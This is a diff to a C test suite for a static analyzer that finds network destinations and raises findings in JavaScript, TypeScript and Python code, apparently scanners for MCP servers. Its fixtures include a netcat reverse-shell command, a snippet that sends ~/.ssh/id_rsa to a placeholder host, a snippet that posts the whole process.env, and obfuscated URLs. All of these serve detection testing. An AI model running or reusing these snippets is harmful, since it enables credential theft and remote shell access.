@@ -2,7 +2,10 @@
  * (JavaScript, TypeScript, Python), written to a temporary folder and scanned with
  * static_stage_run; each case names the endpoint it must yield (host, kind, phase, API) and
  * the intrinsic finding it must raise. Techniques the analyzer does not handle yet are in
- * known_gaps[], which must keep failing: when one starts to pass, move it to cases[]. */
+ * known_gaps[], which must keep failing: when one starts to pass, move it to cases[].
+ * bugs[] holds cases that fail because of a defect in the analyzer (described there); its
+ * test fails until the defect is fixed. wrong[] checks that the checker can say no.
+ * RESOLVE_DUMP=1 prints every report. */
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
@@ -332,12 +335,218 @@ static const struct resolve_case cases[] = {
 	{"py: dns lookup with socket.gethostbyname of a computed name",
 	 JS("main.py", "import socket\nimport os\nsocket.gethostbyname(os.getlogin() + '.d.example.net')\n"),
 	 "d.example.net", K(EK_PARTIAL), NULL, "socket.gethostbyname", "dns-egress", NULL, 3, NULL, SEV_HIGH, NULL},
+
+	/* ---- more shapes ---- */
+	{"js: globalThis.fetch", JS("index.js", "globalThis.fetch('https://global.example.com/x');\n"),
+	 "global.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: arrow function parameter from the caller",
+	 JS("index.js", "const get = async (u) => fetch(u);\nget('https://arrowparam.example.com/x');\n"),
+	 "arrowparam.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: axios.create with a spread config",
+	 JS("index.js", "const axios = require('axios');\nconst defaults = { baseURL: 'https://spread.example.com' };\n"
+			"const c = axios.create({ ...defaults, timeout: 5 });\nc.post('/x', {});\n"),
+	 "spread.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: default import axios.get",
+	 JS("index.mjs", "import axios from 'axios';\nawait axios.get('https://axdef.example.com/x');\n"),
+	 "axdef.example.com", K(EK_LITERAL), NULL, "axios.get", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: .replace on a constant",
+	 JS("index.js", "fetch('https://XXX.example.com/x'.replace('XXX', 'repl'));\n"),
+	 "repl.example.com", ANY_KIND, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: decodeURIComponent",
+	 JS("index.js", "fetch(decodeURIComponent('https%3A%2F%2Fpctjs.example.net%2Fx'));\n"),
+	 "pctjs.example.net", ANY_KIND, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: got.post", JS("index.js", "const got = require('got');\ngot.post('https://got.example.com/x');\n"),
+	 "got.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: undici request", JS("index.js", "const { request } = require('undici');\nrequest('https://undici.example.com/x');\n"),
+	 "undici.example.com", K(EK_LITERAL), NULL, "undici.request", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: http.request options with host and port",
+	 JS("index.js", "const http = require('http');\nhttp.request({ host: 'hostport.example.com', port: 8080, path: '/x' });\n"),
+	 "hostport.example.com", K(EK_LITERAL), NULL, "http.request", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: tls.connect options", JS("index.js", "const tls = require('tls');\ntls.connect({ host: 'tls.example.com', port: 8443 });\n"),
+	 "tls.example.com", ANY_KIND, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: http2.connect", JS("index.js", "const http2 = require('http2');\nhttp2.connect('https://h2.example.com');\n"),
+	 "h2.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: dgram send to a literal address",
+	 JS("index.js", "const dgram = require('dgram');\nconst s = dgram.createSocket('udp4');\ns.send(Buffer.from('x'), 53, '192.0.2.53');\n"),
+	 "192.0.2.53", K(EK_IP), NULL, NULL, "raw-socket-egress", NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: nodemailer createTransport({host})",
+	 JS("index.js", "const nodemailer = require('nodemailer');\nnodemailer.createTransport({ host: 'smtp.example.com', port: 587 });\n"),
+	 "smtp.example.com", ANY_KIND, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: pg Pool with a connection string",
+	 JS("index.js", "const { Pool } = require('pg');\nnew Pool({ connectionString: 'postgres://u:p@pg.example.com:5432/app' });\n"),
+	 "pg.example.com", ANY_KIND, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: redis createClient({url})",
+	 JS("index.js", "const { createClient } = require('redis');\ncreateClient({ url: 'redis://cache.example.com:6379' });\n"),
+	 "cache.example.com", ANY_KIND, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: EventSource", JS("index.js", "const es = new EventSource('https://sse.example.com/stream');\n"),
+	 "sse.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: XMLHttpRequest open",
+	 JS("index.js", "const x = new XMLHttpRequest();\nx.open('POST', 'https://xhr.example.com/x');\nx.send('d');\n"),
+	 "xhr.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: ternary: both branches",
+	 JS("index.js", "const prod = process.argv.length > 2;\nfetch(prod ? 'https://prod.example.com' : 'https://stage.example.com');\n"),
+	 "stage.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: if/else assignments: both branches",
+	 JS("index.js", "let u;\nif (process.argv[2]) { u = 'https://alt1.example.com'; } else { u = 'https://alt2.example.com'; }\nfetch(u);\n"),
+	 "alt2.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: array element", JS("index.js", "const hosts = ['https://arr0.example.com', 'https://arr1.example.com'];\nfetch(hosts[1] + '/x');\n"),
+	 "arr1.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: URL object with a changed pathname, then .toString()",
+	 JS("index.js", "const u = new URL('https://urlobj2.example.com');\nu.pathname = '/x';\nfetch(u.toString());\n"),
+	 "urlobj2.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: String.fromCharCode(...array)",
+	 JS("index.js", "const c = [104,116,116,112,115,58,47,47,99,104,97,114,99,111,100,101,46,101,120,97,109,112,108,101,46,110,101,116,47,120,49];\n"
+			"fetch(String.fromCharCode(...c));\n"),
+	 "charcode.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: atob of a concatenation",
+	 JS("index.js", "fetch(atob('aHR0cHM6Ly9hdG9i' + 'LmV4YW1wbGUubmV0L3g='));\n"),
+	 "atob.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: Buffer.from(x, 'base64url')",
+	 JS("index.js", "fetch(Buffer.from('aHR0cHM6Ly9iNjQuZXhhbXBsZS5uZXQveA', 'base64url').toString());\n"),
+	 "b64.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: whole process.env in the body is a credential flow",
+	 JS("index.js", "fetch('https://dump.example.net/c', { method: 'POST', body: JSON.stringify(process.env) });\n"),
+	 "dump.example.net", K(EK_LITERAL), NULL, NULL, "credential-flow", "dump.example.net", 0, NULL, SEV_CRITICAL, NULL},
+	{"js: os.hostname() in the URL is a credential flow",
+	 JS("index.js", "const os = require('os');\nfetch('https://ident.example.net/?h=' + os.hostname());\n"),
+	 "ident.example.net", K(EK_LITERAL), NULL, NULL, "credential-flow", "ident.example.net", 0, NULL, ANY_SEV, NULL},
+	{"js: registerTool handler argument",
+	 JS("index.js", "const { McpServer } = require('@modelcontextprotocol/sdk/server/mcp.js');\n"
+			"const server = new McpServer({ name: 's', version: '1' });\n"
+			"server.registerTool('grab', { inputSchema: {} }, async ({ url }) => fetch(url));\n"),
+	 NULL, K(EK_USER_DIRECTED), "tool:grab", NULL, "user-directed-egress", NULL, 3, NULL, ANY_SEV, NULL},
+	{"js: vm.runInNewContext is dynamic code",
+	 JS("index.js", "const vm = require('vm');\nvm.runInNewContext(process.argv[2]);\n"),
+	 NULL, ANY_KIND, NULL, NULL, "dynamic-code-execution", NULL, 2, NULL, SEV_MEDIUM, NULL},
+	{"js: exports.x in CommonJS",
+	 {{"lib/config.js", "exports.BASE = 'https://exportsx.example.com';\n"},
+	  {"index.js", "const cfg = require('./lib/config');\nfetch(cfg.BASE + '/x');\n"}},
+	 "exportsx.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: self.base set in __init__",
+	 JS("main.py", "import requests\nclass C:\n    def __init__(self):\n        self.base = 'https://pyinit.example.org'\n"
+		       "    def get(self):\n        return requests.get(f'{self.base}/x')\nC().get()\n"),
+	 "pyinit.example.org", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: default parameter",
+	 JS("main.py", "import requests\ndef get(url='https://pydef.example.org/x'):\n    return requests.get(url)\nget()\n"),
+	 "pydef.example.org", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: dict config subscript",
+	 JS("main.py", "import requests\nCONFIG = {'url': 'https://pydict.example.org'}\nrequests.get(CONFIG['url'] + '/x')\n"),
+	 "pydict.example.org", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: urljoin", JS("main.py", "from urllib.parse import urljoin\nimport requests\nrequests.get(urljoin('https://urljoin.example.org', '/x'))\n"),
+	 "urljoin.example.org", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: keyword url=", JS("main.py", "import requests\nrequests.request('POST', url='https://kwurl.example.org/x')\n"),
+	 "kwurl.example.org", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: http.client.HTTPSConnection",
+	 JS("main.py", "import http.client\nc = http.client.HTTPSConnection('hc.example.org')\nc.request('GET', '/x')\n"),
+	 "hc.example.org", ANY_KIND, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: smtplib.SMTP", JS("main.py", "import smtplib\ns = smtplib.SMTP('smtp.example.org', 587)\n"),
+	 "smtp.example.org", ANY_KIND, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: aiohttp ClientSession(base_url=...)",
+	 JS("main.py", "import aiohttp\nasync def main():\n    async with aiohttp.ClientSession(base_url='https://aio.example.org') as s:\n"
+		       "        async with s.get('/x') as r:\n            return await r.text()\n"),
+	 "aio.example.org", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: httpx.AsyncClient in async with",
+	 JS("main.py", "import httpx\nasync def main():\n    async with httpx.AsyncClient() as c:\n"
+		       "        await c.post('https://asyncx.example.org/x')\n"),
+	 "asyncx.example.org", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: urllib3.PoolManager().request",
+	 JS("main.py", "import urllib3\nhttp = urllib3.PoolManager()\nhttp.request('GET', 'https://u3.example.org/x')\n"),
+	 "u3.example.org", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: socket.socket().connect((ip, port))",
+	 JS("main.py", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.10', 4444))\n"),
+	 "192.0.2.10", K(EK_IP), NULL, NULL, "raw-socket-egress", NULL, 3, NULL, ANY_SEV, NULL},
+	{"py: asyncio.open_connection",
+	 JS("main.py", "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('ao.example.org', 8080)\n"),
+	 "ao.example.org", ANY_KIND, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: websockets.connect",
+	 JS("main.py", "import websockets\nasync def main():\n    async with websockets.connect('wss://pyws.example.org/feed') as ws:\n        await ws.send('x')\n"),
+	 "pyws.example.org", ANY_KIND, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: slicing [::-1]", JS("main.py", "import requests\nrequests.get('x/gro.elpmaxe.ecils//:sptth'[::-1])\n"),
+	 "slice.example.org", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: base64.urlsafe_b64decode",
+	 JS("main.py", "import base64\nimport requests\nrequests.get(base64.urlsafe_b64decode('aHR0cHM6Ly9weWI2NC5leGFtcGxlLm5ldC94').decode())\n"),
+	 "pyb64.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: base64.b32decode",
+	 JS("main.py", "import base64\nimport requests\nrequests.get(base64.b32decode('NB2HI4DTHIXS6ZLYMFWXA3DFFZXGK5BP').decode())\n"),
+	 "example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: os.popen('wget ...')", JS("main.py", "import os\nos.popen('wget -qO- https://popen.example.net/x')\n"),
+	 "popen.example.net", ANY_KIND, NULL, NULL, "subprocess-egress", NULL, 2, NULL, ANY_SEV, NULL},
+	{"py: subprocess.Popen shell string",
+	 JS("main.py", "import subprocess\nsubprocess.Popen('nc 203.0.113.9 4444 -e /bin/sh', shell=True)\n"),
+	 "203.0.113.9", ANY_KIND, NULL, NULL, "subprocess-egress", NULL, 2, NULL, ANY_SEV, NULL},
+	{"py: @server.call_tool() with if name ==",
+	 JS("main.py", "import requests\nfrom mcp.server import Server\nserver = Server('s')\n\n@server.call_tool()\n"
+		       "async def call_tool(name: str, arguments: dict):\n    if name == 'ping':\n"
+		       "        requests.get('https://calltool.example.net/ping')\n    return []\n"),
+	 "calltool.example.net", K(EK_LITERAL), "tool:ping", NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: importlib.import_module of a non-literal is dynamic code",
+	 JS("main.py", "import importlib\nimport sys\nm = importlib.import_module(sys.argv[1])\n"),
+	 NULL, ANY_KIND, NULL, NULL, "dynamic-code-execution", NULL, 3, NULL, ANY_SEV, NULL},
+	{"py: credential file read sent out",
+	 JS("main.py", "import os\nimport requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+		       "requests.post('https://keyflow.example.net/k', data=key)\n"),
+	 "keyflow.example.net", K(EK_LITERAL), NULL, NULL, "credential-flow", "keyflow.example.net", 4, NULL, SEV_CRITICAL, NULL},
+	{"py: f-string in a tool handler with a known base is literal, not user-directed",
+	 JS("main.py", "import requests\nfrom mcp.server.fastmcp import FastMCP\nmcp = FastMCP('x')\n\n@mcp.tool()\n"
+		       "def forecast(city: str) -> str:\n    return requests.get(f'https://wx.example.org/v1/{city}').text\n"),
+	 "wx.example.org", K(EK_LITERAL), "tool:forecast", NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: hand-written JSON-RPC dispatch, nested ifs",
+	 JS("index.js", "process.stdin.on('data', async (buf) => {\n  const msg = JSON.parse(buf);\n"
+			"  if (msg.method === 'tools/call') {\n    if (msg.params.name === 'sync') {\n"
+			"      await fetch('https://rpc2.example.net/sync');\n    }\n  }\n});\n"),
+	 "rpc2.example.net", K(EK_LITERAL), "tool:sync", NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
 };
 
 /* Techniques the analyzer does not resolve yet. Each must still FAIL its check: the test
  * fails when one starts passing, so that it is moved up into cases[] and kept. */
 static const struct resolve_case known_gaps[] = {
-	{NULL, {{NULL, NULL}}, NULL, 0, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: this.base in an object literal method",
+	 JS("index.js", "const api = {\n  base: 'https://objm.example.com',\n  get(p) { return fetch(this.base + p); },\n};\n"
+			"api.get('/x');\n"),
+	 "objm.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: Object.freeze config", JS("index.js", "const CONFIG = Object.freeze({ url: 'https://frozen.example.com' });\nfetch(CONFIG.url);\n"),
+	 "frozen.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: hand-written JSON-RPC dispatch, method and tool name in one && condition",
+	 JS("index.js", "process.stdin.on('data', async (buf) => {\n  const msg = JSON.parse(buf);\n"
+			"  if (msg.method === 'tools/call' && msg.params.name === 'sync') {\n"
+			"    await fetch('https://rpc.example.net/sync');\n  }\n});\n"),
+	 "rpc.example.net", K(EK_LITERAL), "tool:sync", NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: re-export through an index module",
+	 {{"lib/config.mjs", "export const API = 'https://reexp.example.com';\n"},
+	  {"lib/index.mjs", "export { API } from './config.mjs';\n"},
+	  {"main.mjs", "import { API } from './lib/index.mjs';\nfetch(API);\n"}},
+	 "reexp.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: destructured process.env with a default",
+	 JS("index.js", "const { API_URL = 'https://destrenv.example.com' } = process.env;\nfetch(API_URL);\n"),
+	 "destrenv.example.com", K(EK_ENV_DEFAULT), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"ts: enum member", JS("src/index.ts", "enum Hosts { Api = 'https://enum.example.com' }\nfetch(Hosts.Api + '/x');\n"),
+	 "enum.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"ts: static readonly class member",
+	 JS("src/index.ts", "class Cfg { static readonly BASE = 'https://static.example.com'; }\nfetch(`${Cfg.BASE}/x`);\n"),
+	 "static.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: class attribute through self",
+	 JS("main.py", "import requests\nclass C:\n    BASE = 'https://clsattr.example.org'\n    def get(self):\n"
+		       "        return requests.get(self.BASE + '/x')\nC().get()\n"),
+	 "clsattr.example.org", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"py: parameter from the caller (keyword argument)",
+	 JS("main.py", "import requests\ndef get(path, base):\n    return requests.get(base + path)\nget('/x', base='https://pykw.example.org')\n"),
+	 "pykw.example.org", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+};
+
+/* BUG (analyzer/eval.c, string_method): `arr.reverse()` marks the reversed array
+ * VF_DECODED with decoded_by "reverse", but `.join(sep)` builds its result with
+ * join_values from the items only and never absorbs the array's own flags, so the
+ * reversal is lost. With a non-empty separator the destination is reported as a plain
+ * literal (no obfuscated-destination finding); with join('') it is only caught by the
+ * split-string heuristic and labelled "split-string". These must pass once join keeps
+ * the array's flags; until then test_reversal_bug fails on purpose. */
+static const struct resolve_case bugs[] = {
+	{"js: reversed word array joined with dots",
+	 JS("index.js", "fetch('https://' + ['net', 'example', 'wrev'].reverse().join('.') + '/x');\n"),
+	 "wrev.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", NULL, 0, NULL, ANY_SEV, NULL},
+	{"js: split/reverse/join is labelled a reversal",
+	 JS("index.js", "const u = 'ten.elpmaxe.esrever//:sptth'.split('').reverse().join('');\nfetch(u);\n"),
+	 "reverse.example.net", K(EK_OBFUSCATED), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, "reverse"},
 };
 
 /* ---- Running one case ---- */
@@ -571,8 +780,6 @@ static void test_known_gaps_still_fail(void **state)
 	(void)state;
 	for (size_t i = 0; i < sizeof known_gaps / sizeof known_gaps[0]; i++) {
 		char why[512];
-		if (!known_gaps[i].technique)
-			continue;
 		if (!run_case(&known_gaps[i], why, sizeof why, false)) {
 			print_message("NOW PASSES (move it to cases[]): %s\n", known_gaps[i].technique);
 			fixed++;
@@ -583,11 +790,61 @@ static void test_known_gaps_still_fail(void **state)
 	assert_int_equal(fixed, 0);
 }
 
+/* The checker itself: each of these expectations is wrong about its server, so it must be
+ * rejected (a checker that accepts everything would make every table above pass). */
+#define LIT_SRC JS("index.js", "fetch('https://api.example.com/v1');\nfetch(atob('aHR0cHM6Ly9hdG9iLmV4YW1wbGUubmV0L3g='));\n")
+static const struct resolve_case wrong[] = {
+	{"wrong host", LIT_SRC, "other.example.com", ANY_KIND, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"wrong kind", LIT_SRC, "api.example.com", K(EK_OBFUSCATED), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"wrong phase", LIT_SRC, "api.example.com", K(EK_LITERAL), "tool:x", NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"wrong api", LIT_SRC, "api.example.com", K(EK_LITERAL), NULL, "axios.get", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"missing rule", LIT_SRC, "api.example.com", K(EK_LITERAL), NULL, NULL, "subprocess-egress", NULL, 0, NULL,
+	 ANY_SEV, NULL},
+	{"wrong rule host", LIT_SRC, NULL, ANY_KIND, NULL, NULL, "obfuscated-destination", "api.example.com", 0, NULL,
+	 ANY_SEV, NULL},
+	{"wrong rule line", LIT_SRC, NULL, ANY_KIND, NULL, NULL, "obfuscated-destination", NULL, 1, NULL, ANY_SEV, NULL},
+	{"wrong severity", LIT_SRC, NULL, ANY_KIND, NULL, NULL, "obfuscated-destination", NULL, 2, NULL, SEV_LOW, NULL},
+	{"wrong decoder", LIT_SRC, "atob.example.net", K(EK_OBFUSCATED), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, "hex"},
+	{"plain endpoint has no decoder", LIT_SRC, "api.example.com", ANY_KIND, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV,
+	 "base64"},
+	{"endpoints where none are expected", LIT_SRC, NULL, NO_ENDPOINTS, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"present host declared absent", LIT_SRC, NULL, ANY_KIND, NULL, NULL, NULL, NULL, 0, "api.example.com", ANY_SEV,
+	 NULL},
+	{"no user-directed endpoint", LIT_SRC, NULL, K(EK_USER_DIRECTED), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+};
+
+static void test_checker_rejects_wrong_expectations(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < sizeof wrong / sizeof wrong[0]; i++) {
+		char why[512];
+		if (!run_case(&wrong[i], why, sizeof why, false))
+			fail_msg("the checker accepted a wrong expectation: %s", wrong[i].technique);
+	}
+}
+
+static void test_reversal_bug(void **state)
+{
+	unsigned failed = 0;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof bugs / sizeof bugs[0]; i++) {
+		char why[512];
+		if (run_case(&bugs[i], why, sizeof why, false)) {
+			print_message("BUG %s: %s\n", bugs[i].technique, why);
+			failed++;
+		}
+	}
+	assert_int_equal(failed, 0);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_checker_rejects_wrong_expectations),
 		cmocka_unit_test(test_techniques),
 		cmocka_unit_test(test_known_gaps_still_fail),
+		cmocka_unit_test(test_reversal_bug),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
